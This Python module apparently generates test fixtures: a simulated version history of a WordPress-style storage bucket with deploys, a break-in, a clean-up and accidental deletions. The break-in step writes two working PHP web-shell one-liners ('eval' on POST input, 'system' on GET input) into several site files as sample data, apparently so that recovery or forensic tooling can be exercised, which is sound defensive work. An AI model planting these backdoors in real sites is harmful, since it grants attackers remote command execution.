"""A versioned web site with history: deploys, a break-in, a clean-up, and files deleted by mistake."""

from __future__ import annotations

from collections.abc import Iterator

from .acts import Act, Bucket, Delete, Put, content_type, instant, noise, number

SITE = Bucket("site", "eu-west-3", versioned=True)

FIRST_DEPLOY = "2024-05-02T09:00:00Z"
SECOND_DEPLOY = "2024-05-14T09:00:00Z"
THIRD_DEPLOY = "2024-06-04T09:00:00Z"
BREAK_IN = "2024-06-25T03:10:00Z"
CLEAN_UP = "2024-06-25T10:11:34Z"
MISTAKE = "2024-07-01T16:30:00Z"

_FOLDERS = (
    ("wp-content/themes/harbour", ("style.css", "functions.php", "index.php", "single.php", "theme.json")),
    ("wp-content/plugins/gallery", ("gallery.php", "README.md", "js/gallery.js", "css/gallery.css")),
    ("wp-content/plugins/Ebor-Framework-master", ("README.md", "framework.php", "js/main.js")),
    ("wp-includes", ("version.php", "load.php", "class-wp.php", "js/wp-util.js")),
)
_ODD = ("index.php", "a,b.txt", "back\\slash.txt", 'q"uote.txt', "x:y.txt", "empty.txt", "old.php")


def _paths() -> list[str]:
    paths = list(_ODD)
    for folder, names in _FOLDERS:
        paths += [f"{folder}/{name}" for name in names]
        paths += [f"{folder}/parts/part-{at:02}.php" for at in range(20)]
    paths += [f"wp-content/uploads/2024/{month:02}/photo-{at:03}.jpg"
              for month in range(1, 6) for at in range(60)]
    paths += [f"news/2024/{at:03}.html" for at in range(120)]
    return paths


def _body(path: str, release: str) -> bytes:
    if path == "empty.txt":
        return b""
    if path.endswith(".jpg"):
        return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + noise(path, 400 + number(path, 1200))
    if path.endswith(".json"):
        return f'{{\n  "release": "{release}",\n  "path": "{path}"\n}}\n'.encode()
    if path.endswith(".html"):
        return f"<!doctype html>\n<title>{path}</title>\n<p>Release {release}.</p>\n".encode()
    return f"{path}\nrelease {release}\n{noise(path + release, 40).hex()}\n".encode()


def _put(path: str, release: str, at: str) -> Put:
    return Put(SITE.name, path, _body(path, release), at, content_type(path))


def site_acts() -> Iterator[Act]:
    """The history of the site in the order of time."""
    paths = _paths()
    for at, path in enumerate(paths):
        yield _put(path, "1.0", instant(FIRST_DEPLOY, at))
    code = [path for path in paths if not path.endswith((".jpg", ".html"))]
    for at, path in enumerate(path for path in code if number(path, 3) == 0):
        yield _put(path, "1.1", instant(SECOND_DEPLOY, at))
    for at, path in enumerate(path for path in code if number(path, 2) == 0):
        yield _put(path, "2.0", instant(THIRD_DEPLOY, at))
    for at, path in enumerate(path for path in paths if "gallery/parts/" in path):
        yield Delete(SITE.name, path, instant(THIRD_DEPLOY, 600 + at))
    victims = [path for path in code if path.endswith(".php") and number(path + "break-in", 4) == 0]
    for at, path in enumerate(victims):
        yield Put(SITE.name, path, b"<?php /* not ours */ eval($_POST['c']); ?>\n",
                  instant(BREAK_IN, at), content_type(path))
    yield Put(SITE.name, "wp-content/uploads/2024/06/cache.php", b"<?php system($_GET['c']); ?>\n",
              instant(BREAK_IN, 90), "text/x-php")
    for at, path in enumerate(victims):
        yield _put(path, "2.0", instant(CLEAN_UP, at))
    yield Delete(SITE.name, "wp-content/uploads/2024/06/cache.php", instant(CLEAN_UP, 300))
    for at, path in enumerate(path for path in paths if path.startswith("wp-content/uploads/2024/03/")):
        yield Delete(SITE.name, path, instant(MISTAKE, at))
